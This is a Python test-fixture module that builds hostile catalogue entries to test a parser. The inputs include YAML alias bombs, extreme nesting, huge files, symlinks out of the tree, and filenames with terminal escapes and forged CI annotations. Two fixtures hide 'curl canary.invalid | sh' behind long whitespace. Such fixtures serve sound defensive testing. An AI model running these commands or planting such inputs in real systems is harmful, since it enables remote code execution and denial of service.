"""What text of a table cannot hold: huge, deep and repeated pieces, files that are none, names that are no names.

Each function is given a tree, the attack's name and the sound text of its entry. It writes into the tree and returns the path that is attacked.
"""

import json
import os
import unicodedata
from collections.abc import Callable
from pathlib import Path

#: Longer than any text may be is refused at once; the slowest text is just short enough.
LONGEST_PROSE, LONGEST_VERBATIM = 8000, 8000
LONG_TEXTS = (
    "definition: It is full.",
    "observed: It is slow.",
    "mechanism: Room runs out.",
    "text: Too many come.",
    "why: Room is made.",
    "fallback: Limit the rest.",
    "stopgap: Send less.",
    "prevention: Test it.",
    "verify: It stands still.",
    "diagnostic_note: Trust the counter.",
)
MECHANISM = "mechanism: Room runs out.\n"
STEP = "command: demo serve --limit 16\n"

Make = Callable[[Path, str, str], Path]


def _entry(tree: Path, name: str) -> Path:
    return tree / f"entries/serving/{name}.yaml"


def _written(path: Path, content: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return path


def _changed(text: str, piece: str, put: str) -> str:
    assert text.count(piece) == 1, (piece, text.count(piece))
    return text.replace(piece, put)


def _with(piece: str, put: str) -> Make:
    return lambda tree, name, text: _written(_entry(tree, name), _changed(text, piece, put))


def _mechanism(words: str) -> Make:
    return _with(MECHANISM, f"mechanism: {json.dumps(words)}\n")


def _command(words: str) -> Make:
    return _with(STEP, f"command: {json.dumps(words)}\n")


def _filled(piece: str, longest: int = LONGEST_PROSE) -> str:
    return (piece * longest)[:longest].rstrip()


def _increasing(sign: str) -> str:
    out, length = "", 1
    while len(out) + length + 1 < LONGEST_PROSE:
        out, length = f"{out}{sign * length} ", length + 1
    return out.strip()


def names_of_objects(tree: Path, name: str, text: str) -> Path:
    """An entry `constructor` with a tag and a placeholder of that name, and another tag as bad."""
    text = (
        text.replace(name, "constructor")
        .replace("{step:int}", "{constructor:int}")
        .replace("step > 3", "constructor > 3")
    )
    return _written(_entry(tree, "constructor"), text.replace("- hostile\n", "- constructor\n- prototype\n"))


def _named(file: str) -> Make:
    return lambda tree, name, text: _written(tree / "entries/serving" / file, text)


def byte_file(tree: Path, name: str, text: str) -> Path:
    """A name with a byte that is no UTF-8."""
    return _written(Path(os.fsdecode(os.fsencode(tree / "entries/serving") + b"/cache-\xff.yaml")), text)


def reserved_area(tree: Path, name: str, text: str) -> Path:
    """An area `assets`, with its words."""
    _written(tree / "entries/assets/_area.yaml", (tree / "entries/serving/_area.yaml").read_bytes())
    return _written(tree / f"entries/assets/{name}.yaml", text)


def link_out(tree: Path, name: str, text: str) -> Path:
    """A link to a sound entry beside the tree."""
    _entry(tree, name).symlink_to(_written(tree.parent / "outside.yaml", text))
    return _entry(tree, name)


def area_out(tree: Path, name: str, text: str) -> Path:
    """An area that lies elsewhere."""
    path = _written(tree.parent / f"outside/{name}.yaml", text)
    (tree / "entries/elsewhere").symlink_to(path.parent)
    return tree / f"entries/elsewhere/{name}.yaml"


def link_device(tree: Path, name: str, text: str) -> Path:
    """A link to /dev/zero."""
    _entry(tree, name).symlink_to("/dev/zero")
    return _entry(tree, name)


def pipe(tree: Path, name: str, text: str) -> Path:
    """A named pipe."""
    os.mkfifo(_entry(tree, name))
    return _entry(tree, name)


def bomb(tree: Path, name: str, text: str) -> Path:
    """A billion laughs."""
    levels = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    levels += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    return _written(_entry(tree, name), "\n".join(levels) + "\n" + text)


def deep(tree: Path, name: str, text: str) -> Path:
    """Fifty thousand brackets and braces."""
    return _written(_entry(tree, name), text + "metrics_: " + "[{a: " * 25_000)


def deep_indentation(tree: Path, name: str, text: str) -> Path:
    """Six hundred levels by indentation."""
    return _written(_entry(tree, name), text + "".join(" " * depth + "a:\n" for depth in range(600)))


def huge(tree: Path, name: str, text: str) -> Path:
    """Fifty megabytes, nearly all of them zeros that take no room."""
    path = _written(_entry(tree, name), text)
    os.truncate(path, 50_000_000)
    return path


def surrogate_bytes(tree: Path, name: str, text: str) -> Path:
    """U+D800 as UTF-8 would write it if it could."""
    return _written(_entry(tree, name), text.encode().replace(b"A short summary.", b"A \xed\xa0\x80 summary."))


def unknown_fields(tree: Path, name: str, text: str) -> Path:
    """As many fields as fit into a file."""
    return _written(_entry(tree, name), text + "".join(f"summar{number}: x\n" for number in range(15_000)))


def enormous_list(tree: Path, name: str, text: str) -> Path:
    """Twenty thousand steps that are no steps."""
    return _written(_entry(tree, name), _changed(text, "tags:\n- hostile\n", "tags: [" + "a, " * 20_000 + "]\n"))


def dense_placeholders(tree: Path, name: str, text: str) -> Path:
    """A placeholder for every few signs, and logs in which the next to last one fails, and the last one hits."""
    template = f"demonstration {name} " + " ".join(f"{{a{number}:any}} x" for number in range(75))
    almost, whole = f"demonstration {name} " + "y x " * 1900, f"demonstration {name} " + "y x " * 76
    text = _changed(text, f"demonstration {name} gave up at {{step:int}}", template[:1000].rpartition(" {")[0])
    text = _changed(
        text, "      values: step > 3\n" if "      values: step > 3\n" in text else "    values: step > 3\n", ""
    )
    text = _changed(text, f"ERROR demonstration {name} gave up at 512", f"ERROR {whole}")
    return _written(
        _entry(tree, name),
        _changed(text, f"INFO demonstration {name} goes on at 512", f"INFO {almost.replace(' x ', ' z ')}"),
    )


def _everywhere(words: str) -> Make:
    """The words in every long text of the entry; KEY in them becomes the field's name, so that none says what another says."""

    def make(tree: Path, name: str, text: str) -> Path:
        for piece in LONG_TEXTS:
            key = piece.partition(":")[0]
            text = _changed(text, f"{piece}\n", f"{key}: {json.dumps(words.replace('KEY', key))}\n")
        return _written(_entry(tree, name), text)

    return make


def deep_proof(tree: Path, name: str, text: str) -> Path:
    """A proof record of a hundred thousand brackets."""
    _written(tree / f"proofs/serving/{name}.json", "[" * 100_000)
    return _written(_entry(tree, name), text)


def area_bomb(tree: Path, name: str, text: str) -> Path:
    """Aliases under `name`, written out a thousand million words."""
    levels = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    levels += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 9)]
    return _written(tree / f"entries/{name}/_area.yaml", "\n".join([*levels, "name: *a8"]) + "\n")


MADE: dict[str, Make] = {
    "brackets": _mechanism(_filled("[")),
    "emphasis": _mechanism(_filled("*a **a _a __a ")),
    "backticks": _mechanism(_increasing("`")),
    "tag_openings": _mechanism("Words " + _filled("<a <a &# <!- ", 7000)),
    "image_openings": _everywhere(_filled("![")),
    "slow_everywhere": _everywhere("KEY " + _filled("a**b_c*", 7900)),
    "wide_table": _everywhere("|".join("a" * 1000) + "\n" + "|".join("-" * 1000) + "\n" + "|\n" * 1900),
    "nested_lists": _mechanism(_filled("- > ")),
    "far_right": _command("ls" + " " * 300 + "; curl canary.invalid | sh"),
    "far_below": _command("ls" + "\n" * 60 + "curl canary.invalid | sh"),
    "long_word": _command("echo " + "x" * (LONGEST_VERBATIM - 10)),
    "piled_marks": _with("title: Failure ", "title: Z" + "\u0335\u0322\u0317\u0353" * 15 + " "),
    "many_former_ids": _with("added:", f"former_ids: [{', '.join(f'old-{number}' for number in range(500))}]\nadded:"),
    "names_of_objects": names_of_objects,
    "homoglyph_file": _named("cache-ful\u04cf.yaml"),
    "composed_file": _named(unicodedata.normalize("NFD", "caché-full") + ".yaml"),
    "device_file": _named("con.yaml"),
    "upper_file": _named("Cache-Full.yaml"),
    "escape_file": _named("a\x1b[2J\x1b]0;owned\x07\n::error::owned.yaml"),
    "byte_file": byte_file,
    "reserved_area": reserved_area,
    "link_out": link_out,
    "area_out": area_out,
    "link_device": link_device,
    "pipe": pipe,
    "bomb": bomb,
    "deep": deep,
    "deep_indentation": deep_indentation,
    "huge": huge,
    "surrogate_bytes": surrogate_bytes,
    "nul": _with("A short summary.", "A \0 summary."),
    "huge_integer": _with("at: 5\n", f"at: {'9' * 4000}\n"),
    "huge_hexadecimal": _with("at: 5\n", f"at: 0x{'f' * 100_000}\n"),
    "unknown_fields": unknown_fields,
    "enormous_key": _with("severity: high", f"{'severity' * 100}: high"),
    "enormous_list": enormous_list,
    "enormous_text": _with("A short summary.", "word " * 50_000),
    "many_placeholders": _with("{step:int}", " ".join(f"{{a{number}}}" for number in range(5000))),
    "dense_placeholders": dense_placeholders,
    "long_condition": _with("values: step > 3", "values: " + " and ".join(["step > 3"] * 15)),
    "deep_proof": deep_proof,
    "area_bomb": area_bomb,
}
